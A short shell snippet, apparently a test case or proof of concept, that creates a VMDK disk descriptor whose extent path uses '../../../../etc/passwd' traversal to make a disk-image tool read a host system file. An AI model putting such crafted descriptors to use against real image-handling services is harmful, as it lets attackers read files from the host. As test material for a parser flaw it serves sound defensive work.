cat >disk.vmdk <<END
# Disk DescriptorFile
version=1
CID=fffffffe
parentCID=ffffffff
createType="monolithicFlat"
RW 81920 FLAT "../../../../etc/passwd" 0
ddb.adapterType = "lsilogic"
END
manifest disk.vmdk vmdk
